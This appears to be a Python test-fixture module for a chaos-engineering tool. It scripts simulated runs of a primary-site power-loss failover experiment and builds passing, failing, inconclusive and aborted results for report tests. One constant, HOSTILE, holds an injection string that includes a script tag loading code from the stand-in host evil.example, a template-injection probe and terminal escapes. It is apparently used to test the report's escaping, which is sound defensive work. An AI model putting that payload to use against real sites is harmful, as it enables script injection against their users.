"""Histories and results as real runs leave them, made from a script: what the report's tests and its picture are drawn from.

The outages are scripted and the intervals worked out from the script, not by the judge, so that these tests stand alone.
"""

from __future__ import annotations

import hashlib
import random
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Literal

import msgspec

from chaoslab.history.result import (
    ClockResult,
    DecisionResult,
    FaultResult,
    Interval,
    JourneyResult,
    LedgerResult,
    LoadResult,
    ObjectiveResult,
    OutageResult,
    Result,
    ServiceResult,
    WriterResult,
)
from chaoslab.history.rows import (
    Abort,
    Anchor,
    AnyRow,
    Condition,
    Fault,
    LedgerRead,
    Load,
    Machine,
    Note,
    Phase,
    PhaseRow,
    Probe,
)
from chaoslab.spec.model import Experiment
from chaoslab.spec.stackfile.model import StackSpec

S = 1_000_000_000
HOSTILE = "</svg></style><script src=//evil.example/x.js>alert(1)</script>$\\frac\x1b[2J\x00'\"&{{7*7}}"
START_NS = 7_000 * S  # a machine that has been up for two hours
RATE = 50
SERVICES = ("auth", "talk", "pay", "partner")
JOURNEYS: dict[str, tuple[str, Literal["read", "write"], float]] = {  # service, op, usual latency in ms
    "auth.login": ("auth", "write", 14),
    "auth.check": ("auth", "read", 5),
    "talk.send": ("talk", "write", 16),
    "talk.read": ("talk", "read", 7),
    "pay.transfer": ("pay", "write", 18),
    "pay.balance": ("pay", "read", 6),
    "partner.signin": ("partner", "write", 19),
    "partner.page": ("partner", "read", 9),
}
BOOT_S, INJECT_S, HEAL_S, HEALED_S, FAILBACK_END_S, END_S = 9.1, 20.0, 70.0, 78.4, 96.0, 101.2


@dataclass(frozen=True)
class Script:
    """Outages as (from, to, share of bad slots), in seconds of the run; `until_s` ends the probing early."""

    outages: Mapping[str, list[tuple[float, float, float]]]
    until_s: float = FAILBACK_END_S
    extra: tuple[AnyRow, ...] = ()
    rate: int = RATE
    seed: int = 2210
    journeys: Mapping[str, tuple[str, Literal["read", "write"], float]] = field(default_factory=lambda: JOURNEYS)


@dataclass(frozen=True)
class Run:
    """Everything that a report is made of."""

    result: Result
    rows: list[AnyRow]
    experiment: Experiment
    stack: StackSpec
    facts: dict[str, Any]


def at(seconds: float) -> int:
    """The monotonic instant of a second of the run."""
    return START_NS + round(seconds * S)


FACTS = {
    "host": {"system": "Linux 6.18", "cpus": 2, "memory": "7.7 GiB"},
    "why_runtime": "no Docker engine answers",
}


def experiment(**changes: Any) -> Experiment:
    """The experiment `idc-fire`, as loaded."""
    raw: dict[str, Any] = {
        "name": "idc-fire",
        "hypothesis": "Pangyo loses all power without a word: all are back within their RTO, nothing acknowledged is lost.",
        "title": "A fire takes the primary site",
        "stack": [Path("/srv/chaoslab/compose/two-site/compose.yaml")],
        "tags": ["site-loss", "nightly"],
        "probe": {"rate": RATE},
        "steady_state": {
            "hold": "8s",
            "journeys": {"good": "> 99.9%", "p95": "< 250ms"},
            "conditions": ["leader-in-pangyo", "standby-in-sync"],
        },
        "timeline": [{"id": "fire", "at": "0s", "fault": "site.power-loss", "site": "pangyo", "heal_after": "50s"}],
        "objectives": {"pay": {"rto": "< 45s", "rpo": 0, "failback": "< 30s"}},
    }
    return Experiment.model_validate(raw | changes)


def stack() -> StackSpec:
    """The part of the two-site stack's own section that a report reads."""
    critical = {"rto": "< 45s", "rpo": 0, "failback": "< 30s"}
    return StackSpec.model_validate(
        {
            "sites": ["pangyo", "anyang"],
            "entry": "entry:8080",
            "tiers": {"critical": critical},
            "services": {name: {"tier": "critical"} for name in SERVICES},
            "journeys": {
                name: {"service": service, "request": {"method": "POST" if op == "write" else "GET", "path": f"/{name}"}}
                for name, (service, op, _) in JOURNEYS.items()
            },
        }
    )


def _slots(script: Script) -> list[AnyRow]:
    dice = random.Random(script.seed)  # noqa: S311 -- repeatable, not secret
    rows: list[AnyRow] = []
    first, last = round(BOOT_S * script.rate), round(script.until_s * script.rate)
    for name in script.journeys:
        for seq, slot in enumerate(range(first, last)):
            due_s = slot / script.rate
            share = max((bad for begin, end, bad in script.outages.get(name, []) if begin <= due_s < end), default=0.0)
            rows.append(_slot(name, seq, due_s, bad=dice.random() < share, script=script, dice=dice))
    return rows


def _slot(name: str, seq: int, due_s: float, *, bad: bool, script: Script, dice: random.Random) -> Probe:
    service, op, usual_ms = script.journeys[name]
    just_back = 3.0 if script.until_s > HEAL_S and INJECT_S + 22 < due_s < INJECT_S + 26 else 1.0
    latency_ms = usual_ms * just_back * dice.lognormvariate(0, 0.28) if not bad else 2000.0
    hang = bad and due_s < INJECT_S + 12
    error = None if not bad else "no answer within 2 s" if hang else "503 Service Unavailable: no upstream is healthy"
    end_ns = at(due_s) + round((latency_ms if not bad or hang else 4.0) * 1e6)
    writer = f"{name}-w1"
    id_ = f"{writer}-{seq}" if op == "write" else None
    outcomes = {("write", False): "acked", ("write", True): "indeterminate", ("read", False): "ok", ("read", True): "bad"}
    return Probe(
        t_ns=end_ns,
        journey=name,
        service=service,
        op=op,
        due_ns=at(due_s),
        sent_ns=at(due_s) + dice.randrange(20_000, 400_000),
        end_ns=end_ns,
        good=not bad,
        outcome=outcomes[(op, bad)],  # type: ignore[arg-type]
        id=id_,
        writer=writer if id_ else None,
        seq=seq if id_ else None,
        hash=hashlib.sha256(id_.encode()).hexdigest() if id_ else None,
        status=None if hang else 503 if bad else 201 if op == "write" else 200,
        error=error,
        pooled=bool(seq % 2),
    )


def _load(script: Script, fault: bool) -> list[AnyRow]:
    dice = random.Random(script.seed + 1)  # noqa: S311 -- repeatable, not secret
    rows: list[AnyRow] = []
    for second in range(round(BOOT_S), round(script.until_s)):
        down = INJECT_S <= second < INJECT_S + 24 and fault
        requests = round(dice.gauss(38 if down else 155, 4))
        rows.append(
            Load(
                t_ns=at(second + 1),
                requests=requests,
                failures=round(requests * (0.92 if down else 0.0)),
                users=min(40, (second - round(BOOT_S)) * 20 + 20),
                p50_ms=dice.gauss(18 if down else 9, 0.6),
                p95_ms=dice.gauss(480 if down else 31, 4),
                p99_ms=dice.gauss(496 if down else 52, 6),
            )
        )
    return rows


def _phases(until_s: float, fault: bool) -> list[AnyRow]:
    begins: list[tuple[Phase, float, float | None]] = [
        ("boot", 0.0, None),
        ("steady", BOOT_S, 8.0),
        ("faults", INJECT_S, 50.0),
        ("failback", HEALED_S, 60.0),
        ("drain", FAILBACK_END_S, 2.0),
        ("verify", FAILBACK_END_S + 2.1, None),
        ("down", FAILBACK_END_S + 3.4, None),
    ]
    rows: list[AnyRow] = []
    for number, (phase, begin_s, planned_s) in enumerate(begins):
        if phase in ("faults", "failback") and (begin_s >= until_s or not fault):
            continue
        end_s = begins[number + 1][1] if number + 1 < len(begins) else END_S
        detail = {"planned_s": planned_s} if planned_s else {}
        rows.append(PhaseRow(t_ns=at(begin_s), phase=phase, event="begin", detail=detail))
        rows.append(PhaseRow(t_ns=at(end_s), phase=phase, event="end"))
    return rows


def _fault_rows() -> list[AnyRow]:
    def fault(seconds: float, event: Any, detail: dict[str, Any] | None = None) -> Fault:
        return Fault(t_ns=at(seconds), id="fire", name="site.power-loss", target="pangyo", event=event, detail=detail or {})

    return [
        fault(INJECT_S, "inject"),
        fault(INJECT_S + 0.063, "effective", {"killed": 14, "skew_ms": 6.1, "means": "pids"}),
        fault(HEAL_S, "heal"),
        fault(HEALED_S, "healed"),
    ]


def _conditions() -> list[AnyRow]:
    return [
        Condition(t_ns=at(10.2), id="leader-in-pangyo", holds=False, observed="pg-anyang", role="bring-about"),
        Condition(t_ns=at(13.9), id="leader-in-pangyo", holds=True, observed="pg-pangyo"),
        Condition(t_ns=at(14.0), id="standby-in-sync", holds=True, observed="pg-anyang is sync_standby"),
        Condition(t_ns=at(84.3), id="standby-in-sync", holds=True, observed="pg-pangyo is sync_standby", role="failback"),
    ]


def _ledger_reads() -> list[AnyRow]:
    return [
        LedgerRead(
            t_ns=at(98.4 + 0.2 * number),
            journey=journey,
            service=JOURNEYS[journey][0],
            writer=f"{journey}-w1",
            begin_ns=at(98.3 + 0.2 * number),
            end_ns=at(98.4 + 0.2 * number),
            ok=True,
            site=site,
            final=True,
        )
        for number, (journey, site) in enumerate(
            (journey, site) for journey in ("auth.login", "talk.send", "pay.transfer") for site in ("pangyo", "anyang")
        )
    ]


def history(script: Script, *, fault: bool = True) -> list[AnyRow]:
    """The rows of a scripted run, in order of time."""
    rows: list[AnyRow] = [
        Anchor(
            t_ns=at(0),
            wall="2026-11-22T02:00:00Z",
            experiment="idc-fire",
            run="idc-fire/2026-11-22T02-00-00Z",
            runtime="embedded",
            facts=FACTS,
        ),
        Note(t_ns=at(0.01), level="info", text="runtime embedded: no Docker engine answers"),
        *_phases(script.until_s, fault),
        *_conditions(),
        *_slots(script),
        *_load(script, fault),
        *script.extra,
    ]
    rows += [*_fault_rows(), *_ledger_reads()] if fault else []
    return sorted(rows, key=lambda row: row.t_ns)


def machine_rows(*, starved_s: range = range(0), until_s: int = 90) -> list[Machine]:
    """One a second; `starved_s` while others, with a hostile name, have everything."""
    quiet = {"pangyo": 0.3, "anyang": 0.3, "outside": 0.1, "load": 0.1, "harness": 0.2, "others": 0.1}
    return [
        Machine(
            t_ns=at(second + 1),
            begin_ns=at(second),
            busy=quiet | ({"others": 1.0} if second in starved_s else {}),
            starved=second in starved_s,
            late=["read"] if second in starved_s else [],
            why="the control's read was 2.10 s late" if second in starved_s else "",
            top=[f"{HOSTILE} (4711) 0.90"],
        )
        for second in range(until_s)
    ]


def _journey_result(name: str, rows: list[AnyRow], outages: list[tuple[float, float, float]], censored: bool) -> JourneyResult:
    service, op, usual_ms = JOURNEYS[name]
    slots = [row for row in rows if isinstance(row, Probe) and row.journey == name and row.due_ns >= at(INJECT_S)]
    bad = sum(not row.good for row in slots)
    first = [(begin, end) for begin, end, share in outages if share == 1.0 and begin < HEAL_S]
    back = [(begin, end) for begin, end, share in outages if share == 1.0 and begin >= HEAL_S]
    recovered = first[-1][1] - INJECT_S if first else 0.0
    failed_back = (back[-1][1] - HEALED_S - 0.02, back[-1][1] - HEAL_S + 0.02) if back else (0.0, 0.02)
    return JourneyResult(
        service=service,
        op=op,
        slots=len(slots),
        bad=bad,
        skewed=0,
        availability=1 - bad / max(1, len(slots)),
        rto_s=Interval(max(0.0, recovered - 0.08), None if censored else recovered + 0.04, 45.0) if first or censored else None,
        failback_s=None if censored else Interval(*failed_back, 30.0),
        outages=[
            OutageResult(begin, end - begin - 0.02, end - begin + 0.02, round((end - begin) * RATE * share))
            for begin, end, share in outages
        ],
        p50_ms=usual_ms,
        p95_ms=usual_ms * 1.6,
        p99_ms=usual_ms * 2.0,
    )


def _service_result(journeys: list[JourneyResult], censored: bool) -> ServiceResult:
    worst = max(journeys, key=lambda journey: (journey.rto_s.low if journey.rto_s else 0.0, journey.bad))
    return ServiceResult(
        status="not_recovered" if censored else "recovered",
        rto_s=worst.rto_s,
        failback_s=worst.failback_s,
        availability=worst.availability,
        downtime_s=worst.bad / RATE,
        longest_s=max((outage.high_s for outage in worst.outages), default=0.0),
        flaps=max(0, len(worst.outages) - 1),
        slots=sum(journey.slots for journey in journeys),
        skewed=0,
    )


def _objectives(services: Mapping[str, ServiceResult], ledger: Mapping[str, LedgerResult]) -> list[ObjectiveResult]:
    found = [
        ObjectiveResult(
            id="steady-state", verdict="pass", measured="held 8.0 s", objective="8 s of good > 99.9%, p95 < 250ms, 2 conditions"
        ),
        ObjectiveResult(
            id="fault.fire", verdict="pass", measured="seen from outside after 63 ms", objective="its effect is seen"
        ),
    ]
    for name, service in services.items():
        found += [_interval_objective(f"{name}.rto", service.rto_s, "< 45s")]
        if name in ledger:
            found.append(_rpo_objective(name, ledger[name]))
        if service.failback_s:
            found.append(_interval_objective(f"{name}.failback", service.failback_s, "< 30s"))
    return found


def _clocks(name: str, journey: JourneyResult) -> Iterator[ClockResult]:
    causes = (("inject", "rto", INJECT_S, journey.rto_s), ("heal", "failback", HEAL_S, journey.failback_s))
    for event, kind, from_s, interval in causes:
        if interval is not None:
            yield ClockResult(
                journey=name, service=journey.service, cause="fire", event=event, kind=kind, from_s=from_s,
                first_bad_s=from_s, last_bad_s=from_s + interval.low, low=interval.low, high=interval.high,
                back_s=None if interval.high is None else from_s + interval.high,
                end="heal" if interval.high is None else "recovered", objective=interval.objective,
                verdict="fail" if interval.high is None else "pass",
            )  # fmt: skip


def _rpo_objective(name: str, ledger: LedgerResult) -> ObjectiveResult:
    why = f"{ledger.lost} acknowledged writes are gone; the oldest was acknowledged {ledger.rpo_s} s before the fault"
    return ObjectiveResult(
        id=f"{name}.rpo",
        verdict="fail" if ledger.lost else "pass",
        measured=f"{ledger.rpo_s:.1f} s, {ledger.lost} lost",
        objective="0",
        why=why if ledger.lost else "",
    )


def _interval_objective(id_: str, interval: Interval | None, objective: str) -> ObjectiveResult:
    if interval is None or interval.high is None:
        low = f">= {interval.low:.1f} s" if interval else "nothing"
        why = "it did not recover before the heal; what works only after the heal is no failover"
        return ObjectiveResult(id=id_, verdict="fail", measured=low, objective=objective, why=why)
    return ObjectiveResult(id=id_, verdict="pass", measured=f"{interval.low:.1f}..{interval.high:.1f} s", objective=objective)


def _result(rows: list[AnyRow], script: Script, censored: frozenset[str] = frozenset(), **changes: Any) -> Result:
    journeys = {
        name: _journey_result(name, rows, script.outages.get(name, []), JOURNEYS[name][0] in censored) for name in JOURNEYS
    }
    services = {
        service: _service_result([journey for journey in journeys.values() if journey.service == service], service in censored)
        for service in SERVICES
    }
    ledger = changes.pop("ledger", {})
    loads = [row for row in rows if isinstance(row, Load)]
    total = sum(row.requests for row in loads)
    result = Result(
        experiment="idc-fire",
        verdict="pass",
        runtime="embedded",
        started_at="2026-11-22T02:00:00Z",
        duration_s=END_S,
        boot_s=BOOT_S,
        overhead_s=0.7,
        faults=[
            FaultResult(
                id="fire",
                name="site.power-loss",
                target="pangyo",
                inject_s=INJECT_S,
                effective_s=INJECT_S + 0.063,
                heal_s=HEAL_S,
                healed_s=HEALED_S,
                skew_ms=6.1,
                verified=True,
                detail={"killed": 14},
            )
        ],
        services=services,
        journeys=journeys,
        ledger=ledger,
        load=LoadResult(
            requests=total, failures=sum(row.failures for row in loads), users=40, rps=total / len(loads), p95_ms=31.4
        ),
        objectives=_objectives(services, ledger),
        clocks=[clock for name, journey in journeys.items() for clock in _clocks(name, journey)],
        versions={"chaoslab": "0.1.0", "python": "3.11.2", "locust": "2.47.0", "postgresql": "16.14", "etcd": "3.5.1"},
    )
    return msgspec.structs.replace(result, **changes)


_GOOD_LEDGER = {
    "auth": LedgerResult(acked=3121, rejected=4, indeterminate=1198, recovered=3, objective_s=0.0),
    "talk": LedgerResult(acked=3098, rejected=2, indeterminate=1220, recovered=5, objective_s=0.0),
    "pay": LedgerResult(acked=3110, rejected=3, indeterminate=1207, recovered=4, objective_s=0.0),
}


def failover(seconds: float, *, blip_s: float = 0.4) -> dict[str, list[tuple[float, float, float]]]:
    """Every journey down from the fault until the database's new leader, with a little difference; a blip at the heal."""
    outages: dict[str, list[tuple[float, float, float]]] = {}
    for number, (name, (_, op, _)) in enumerate(JOURNEYS.items()):
        back_s = INJECT_S + (seconds + 0.22 * number if op == "write" else 3.1 + 0.1 * number)
        outages[name] = [(INJECT_S, back_s, 1.0)]
        outages[name] += [(back_s + 0.3, back_s + 1.6, 0.35)] if op == "write" else []
        outages[name] += [(HEALED_S + 2.0, HEALED_S + 2.0 + blip_s, 1.0)] if op == "write" else []
    return outages


def _run(script: Script, result: Result, rows: list[AnyRow], **changes: Any) -> Run:
    return Run(result, rows, experiment(**changes), stack(), FACTS)


def passing() -> Run:
    """`idc-fire` as it should be: about 23 s of failover, nothing lost, a blip on failback."""
    script = Script(failover(22.8))
    rows = history(script)
    return _run(script, _result(rows, script, ledger=_GOOD_LEDGER), rows)


def failing() -> Run:
    """pay comes back only after the heal and has lost acknowledged writes; something was left behind too."""
    outages = failover(22.8) | {
        "pay.transfer": [(INJECT_S, HEALED_S + 1.4, 1.0)],
        "pay.balance": [(INJECT_S, HEALED_S + 0.8, 1.0)],
    }
    script = Script(outages)
    rows = history(script)
    lost = LedgerResult(
        acked=1204,
        indeterminate=2930,
        lost=17,
        recovered=1,
        stale=2,
        rpo_s=0.84,
        objective_s=0.0,
        examples={"lost": [f"pay.transfer-w1-{number}" for number in range(528, 538)]},
    )
    result = _result(
        rows,
        script,
        frozenset({"pay"}),
        ledger=_GOOD_LEDGER | {"pay": lost},
        verdict="fail",
        reasons=[
            "pay was not back before the heal: down for at least 50.0 s, allowed are 45 s",
            "pay lost 17 acknowledged writes; the objective allows none",
        ],
        warnings=["pay: 2 reads were stale"],
        cleanup="incomplete",
        left_behind=["process 4711 (postgres) in /tmp/chaoslab-x"],
    )
    return _run(script, result, rows)


def inconclusive() -> Run:
    """The steady state did not hold, so nothing was injected."""
    script = Script({"partner.page": [(12.0, 60.0, 0.2)]}, until_s=60.0)
    rows = history(script, fault=False)
    objective = ObjectiveResult(
        id="steady-state",
        verdict="inconclusive",
        measured="good 80.1% (partner.page)",
        objective="> 99.9%",
        why="the steady state did not hold within 60 s, so nothing was injected",
    )
    result = _result(
        rows,
        script,
        verdict="inconclusive",
        faults=[],
        services={},
        journeys={},
        objectives=[objective],
        reasons=["the steady state did not hold within 60 s: partner.page was good in 80.1% of its slots, needed are > 99.9%"],
    )
    return _run(script, result, rows)


def aborted() -> Run:
    """The machine ran out of memory during the fault; the run healed and ended."""
    abort = Abort(t_ns=at(41.0), condition="host_memory > 95%", observed="96.2%")
    script = Script({name: [(INJECT_S, 41.0, 1.0)] for name in JOURNEYS}, until_s=41.0, extra=(abort,))
    rows = history(script)
    rows = [row for row in rows if not (isinstance(row, Fault) and row.t_ns > at(41))]
    result = _result(
        rows,
        script,
        frozenset(SERVICES),
        verdict="aborted",
        objectives=[],
        reasons=["host_memory > 95%: seen 96.2%, 21.0 s into the fault"],
    )
    return _run(script, result, rows)


def decided() -> tuple[list[DecisionResult], list[WriterResult]]:
    """Three outages: divided, divided by people with work that was not waited for, and one that is not divided."""
    first: dict[str, Any] = {"cause": "fire", "event": "inject", "from_s": INJECT_S, "precision_s": 0.21}
    parts = {"detect_s": 19.84, "decide_s": 0.2, "act_s": 1.9, "verify_s": 1.14}
    return [
        DecisionResult(service="pay", journey="pay.transfer", total_s=23.08, **parts, **first),
        DecisionResult(service="talk", journey="talk.send", total_s=623.08, declared_s=600.0, by="hand", **parts, **first),
        DecisionResult(service="auth", journey="auth.login", total_s=4.5, why="decided was not seen", **first),
    ], [
        WriterResult(replica="pg-pangyo", service="pg", site="pangyo", begin_s=BOOT_S, end_s=30.0),
        WriterResult(replica="pg-anyang", service="pg", site="anyang", begin_s=25.0, end_s=END_S),
    ]
